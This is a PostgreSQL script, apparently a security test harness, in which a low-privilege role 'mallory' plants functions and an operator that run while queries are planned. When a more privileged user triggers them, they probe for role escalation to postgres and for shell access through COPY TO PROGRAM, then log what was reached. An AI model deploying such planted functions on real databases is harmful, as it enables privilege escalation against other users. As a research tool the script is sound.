-- What mallory plants everywhere: it notes in the server's log who it could be when it ran.
-- It tries every way out of a borrowed role, each in a block of its own that is undone at once, and COPY TO PROGRAM.
-- Versions 14-18; run as mallory in a fresh database.
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO public;

CREATE FUNCTION evil.probe(tag pg_catalog.text) RETURNS pg_catalog.text
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp SET standard_conforming_strings = on AS $probe$
DECLARE
    reached name[] := ARRAY[current_user];
    way text;
    program boolean := false;
BEGIN
    FOREACH way IN ARRAY ARRAY['SET LOCAL ROLE none', 'RESET ROLE', 'SET LOCAL SESSION AUTHORIZATION DEFAULT',
                               'SET LOCAL ROLE postgres'] LOOP
        BEGIN
            EXECUTE way;
            reached := reached || current_user;
            RAISE EXCEPTION USING ERRCODE = 'XX999', MESSAGE = 'undone';
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    BEGIN
        EXECUTE $$ COPY (SELECT 1) TO PROGRAM 'cat > /dev/null' $$;
        program := true;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RAISE LOG 'PLANTED %', json_build_object(
        'tag', tag, 'session', session_user, 'reached', reached, 'program', program,
        'application', current_setting('application_name'), 'statement', current_query());
    RETURN tag;
END $probe$;

-- Declared IMMUTABLE, so that the planner computes them while it plans.
CREATE FUNCTION evil.imm(tag pg_catalog.text) RETURNS pg_catalog.int4 LANGUAGE plpgsql IMMUTABLE AS
$$ BEGIN PERFORM evil.probe(tag); RETURN 1; END $$;
CREATE FUNCTION evil.imm_of(value pg_catalog.int4, tag pg_catalog.text) RETURNS pg_catalog.int4 LANGUAGE plpgsql IMMUTABLE AS
$$ BEGIN PERFORM evil.probe(tag); RETURN value; END $$;
CREATE FUNCTION evil.yes(tag pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql IMMUTABLE AS
$$ BEGIN PERFORM evil.probe(tag); RETURN true; END $$;
CREATE FUNCTION evil.same(one pg_catalog.int4, other pg_catalog.int4) RETURNS pg_catalog.bool LANGUAGE plpgsql IMMUTABLE AS
$$ BEGIN PERFORM evil.probe('operator'); RETURN one OPERATOR(pg_catalog.=) other; END $$;
CREATE OPERATOR evil.=== (LEFTARG = pg_catalog.int4, RIGHTARG = pg_catalog.int4, FUNCTION = evil.same);

-- What the plants of all groups refer to.
CREATE TABLE public.hub (id pg_catalog.int4 PRIMARY KEY, name pg_catalog.text);
INSERT INTO public.hub VALUES (1, 'one'), (2, 'two');
